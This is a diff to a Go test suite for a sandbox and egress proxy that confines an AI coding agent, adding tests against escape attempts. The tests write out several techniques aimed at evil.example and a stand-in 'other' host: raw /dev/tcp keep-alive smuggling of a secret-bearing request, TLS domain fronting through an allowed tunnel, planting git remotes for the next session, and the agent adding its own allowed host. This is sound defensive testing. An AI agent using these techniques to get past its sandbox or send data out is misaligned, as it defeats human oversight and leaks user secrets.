@@ -9,7 +9,9 @@ import (
 	"net"
 	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync/atomic"
 	"syscall"
@@ -106,10 +108,31 @@ func editSandboxNetwork(t *testing.T, w *editWorld) {
 		{"git's ssh goes through the proxy",
 			`echo "$GIT_SSH_COMMAND"`, []string{"ssh -o ProxyCommand=", "sandbox --proxy-connect %h %p"}},
 		{"ssh's ProxyCommand tunnels to an allowed host and port",
-			fmt.Sprintf("echo over-the-tunnel | %s sandbox --proxy-connect %s %s", w.bin, echoHost, echoPort), []string{"echo: over-the-tunnel"}},
+			// An SSH client's first bytes are its banner: a tunnel carries SSH, TLS or HTTP only.
+			fmt.Sprintf("echo SSH-2.0-over-the-tunnel | %s sandbox --proxy-connect %s %s", w.bin, echoHost, echoPort), []string{"echo: SSH-2.0-over-the-tunnel"}},
 		{"ssh's ProxyCommand to a host that is not allowed",
 			fmt.Sprintf("%s sandbox --proxy-connect evil.example 22; echo status $?", w.bin),
 			[]string{"the egress proxy refused evil.example:22 (HTTP/1.1 403 Forbidden: not an allowed host)", "status 3"}},
+		// Issue 24: the proxy judges every request on a connection, and what a tunnel carries.
+		{"keep-alive: curl's second URL, on the same connection to the proxy, to a host that is not allowed",
+			fmt.Sprintf("curl -sS --noproxy '' http://%s/first http://%s/second; echo", allowed.addr, other.addr),
+			[]string{"served /first", "127.0.0.1:" + otherPort + " was refused (not an allowed host)"}},
+		{"keep-alive: the issue's bytes, a second request naming another Host",
+			fmt.Sprintf(`p=${HTTP_PROXY#http://}; p=${p%%/}; exec 3<>/dev/tcp/${p%%:*}/${p##*:}; `+
+				`printf 'GET http://%[1]s/ok HTTP/1.1\r\nHost: %[1]s\r\n\r\nGET /collect?k=secret HTTP/1.1\r\nHost: %[2]s\r\n\r\n' >&3; timeout 3 cat <&3`,
+				allowed.addr, other.addr),
+			[]string{"served /ok", "X-Hookctl-Refused: a proxy request names an absolute http:// URL"}},
+		{"a TLS ClientHello through a tunnel to the allowed host, naming another (domain fronting)",
+			`python3 -c "
+import os, socket, ssl
+p = os.environ['HTTPS_PROXY'].split('//')[1].rstrip('/').split(':')
+s = socket.create_connection((p[0], int(p[1])), 5)
+s.sendall(b'CONNECT ` + allowed.addr + ` HTTP/1.1\r\n\r\n'); print(s.recv(100).split(b'\r\n')[0].decode())
+try:
+    ssl.create_default_context().wrap_socket(s, server_hostname='evil.example'); print('handshake')
+except Exception as e: print('failed', type(e).__name__)
+" 2>&1`,
+			[]string{"HTTP/1.1 200 Connection established", "failed", `names "evil.example"`}},
 		{"a proxy variable the command sets is only a way to the same proxy",
 			fmt.Sprintf("HTTPS_PROXY=http://%[1]s https_proxy=http://%[1]s curl -sS -m 5 https://evil.example/; echo status $?", other.addr), []string{"status 7"}},
 	} {
@@ -123,8 +146,8 @@ func editSandboxNetwork(t *testing.T, w *editWorld) {
 	if n := other.hits.Load(); n != 0 {
 		t.Errorf("the server that is not allowed was reached %d times", n)
 	}
-	if n := allowed.hits.Load(); n != 3 {
-		t.Errorf("the allowed server was reached %d times, want 3", n)
+	if n := allowed.hits.Load(); n != 5 {
+		t.Errorf("the allowed server was reached %d times, want 5", n)
 	}
 	// The audit has each command's connections: the allowed host with its rule, the refusals
 	// with their reasons.
@@ -208,7 +231,8 @@ func processesOf(path string) []string {
 }
 
 // TestSessionRecordsItsRemotes: the hosts the egress proxy admits as the project's remotes are
-// the remotes when the session was first seen, kept in its state, where the agent cannot write.
+// the remotes when hookctl first saw a session in the project, kept in its home, where the
+// agent cannot write; the session's state has them too.
 func TestSessionRecordsItsRemotes(t *testing.T) {
 	project := t.TempDir()
 	os.MkdirAll(filepath.Join(project, ".git"), 0o755)
@@ -221,5 +245,89 @@ func TestSessionRecordsItsRemotes(t *testing.T) {
 	sess, err := hook.NewStore(home).Load("remotes-1")
 	if err != nil || strings.Join(sess.Remotes, " ") != "github.com github.com:22" { // an ssh remote: its web ports and its ssh port
 		t.Fatalf("session %+v %v", sess, err)
+	}
+	r, err := hook.NewProjects(home).Load(project)
+	if err != nil || strings.Join(r.Hosts(), " ") != "github.com github.com:22" {
+		t.Fatalf("the project's record: %+v %v", r, err)
+	}
+}
+
+// TestPlantedRemoteOpensNothing (issue 24): an edit-mode command plants a remote in the
+// project's .git/config — a pushurl on origin, a new remote — for the next session, which used
+// to record it as one of the project's remotes at its start and let it through. Run for real,
+// as root and as an unprivileged user: the plant lands (the control: .git/config, as the old
+// session start read it, names both hosts), and in the next session the proxy refuses both as
+// hosts that are not allowed (a remote's host would have been refused only as loopback); the
+// agent cannot add a remote (the hook refuses `hookctl remotes add`, and the sandbox cannot
+// write hookctl's home); doctor and `hookctl remotes` name the planted hosts as not reached;
+// and a host the human adds is reached from then on.
+func TestPlantedRemoteOpensNothing(t *testing.T) {
+	requireTool(t, "curl")
+	requireTool(t, "git")
+	for _, u := range []struct {
+		name string
+		cred *syscall.Credential
+	}{{"root", nil}, {"unprivileged", nobody}} {
+		t.Run(u.name, func(t *testing.T) { plantedRemoteOpensNothing(t, newEditWorld(t, u.cred)) })
+	}
+}
+
+func plantedRemoteOpensNothing(t *testing.T, w *editWorld) {
+	planted := newServer(t)
+	// The human's own remote, added as the user does.
+	if out, err := w.cli("remotes", "add", "github.com", "--project", w.project); err != nil || !strings.Contains(out, "github.com") {
+		t.Fatalf("remotes add: %v %s", err, out)
+	}
+	plant := fmt.Sprintf("git init -q . && git remote add origin https://github.com/o/r.git && "+
+		"git config remote.origin.pushurl http://%s/x.git && git remote add mirror http://evil.example/x.git && echo planted", planted.addr)
+	if out, err := w.run(t, plant); !strings.Contains(out, "planted") {
+		t.Fatalf("the plant: %v %s", err, out)
+	}
+	plantedHost, _, _ := net.SplitHostPort(planted.addr)
+	old := hook.ProjectRemotes(w.project) // what a session's start recorded before
+	if !slices.Contains(old, planted.addr) || !slices.Contains(old, "evil.example") {
+		t.Fatalf("control: .git/config does not name the planted hosts (%q); the test proves nothing", old)
+	}
+	// The next session, which the human starts and takes to edit mode.
+	next := w.session + "-next"
+	start := exec.Command(w.bin, "hook")
+	start.Env, start.SysProcAttr = w.env, &syscall.SysProcAttr{Credential: w.user}
+	start.Stdin = strings.NewReader(`{"session_id":"` + next + `","cwd":"` + w.project + `","hook_event_name":"SessionStart","source":"startup"}`)
+	if out, err := start.CombinedOutput(); err != nil {
+		t.Fatalf("the next session's start: %v %s", err, out)
+	}
+	if out, err := w.cli("readonly", "off", "--session", next); err != nil {
+		t.Fatalf("readonly off: %v %s", err, out)
+	}
+	w.session = next
+	for _, c := range []struct{ script, want string }{
+		{fmt.Sprintf("curl -sS -m 5 --noproxy '' http://%s/x.git/info/refs; echo", planted.addr), planted.addr + " was refused (not an allowed host)"},
+		{"curl -sS -m 5 http://evil.example/x.git/info/refs; echo", "evil.example:80 was refused (not an allowed host)"},
+		{"curl -sS -m 5 https://evil.example/; echo", "evil.example:443 was refused (not an allowed host)"},
+		// The agent adds the host as a remote of its own: the sandbox cannot write the record.
+		{w.bin + " remotes add evil.example; echo status $?", "failed to add evil.example"},
+	} {
+		if out, err := w.run(t, c.script); !strings.Contains(out, c.want) {
+			t.Errorf("%q: %v\n%s\nwant %q", c.script, err, out, c.want)
+		}
+	}
+	if _, refused := w.throughHook(t, "hookctl remotes add evil.example"); !refused {
+		t.Error("the hook let the agent run hookctl remotes add")
+	}
+	if n := planted.hits.Load(); n != 0 {
+		t.Errorf("the planted remote's server was reached %d times", n)
+	}
+	if out, _ := w.cli("remotes", "--project", w.project); !strings.Contains(out, "github.com") || strings.Contains(out, "github.com, "+plantedHost) ||
+		!strings.Contains(out, ".git/config now also names evil.example, which edit mode does not reach") {
+		t.Errorf("hookctl remotes:\n%s", out)
+	}
+	// The human adds the host: from then on the proxy admits it as a remote (and, with no
+	// resolver here, fails to resolve it: it tried).
+	if out, err := w.cli("remotes", "add", "evil.example", "--project", w.project); err != nil {
+		t.Fatalf("remotes add: %v %s", err, out)
+	}
+	if out, _ := w.run(t, "curl -sS -m 5 http://evil.example/; echo"); strings.Contains(out, "not an allowed host") ||
+		!strings.Contains(out, "could not reach evil.example:80") {
+		t.Errorf("after the human added evil.example:\n%s", out)
 	}
 }
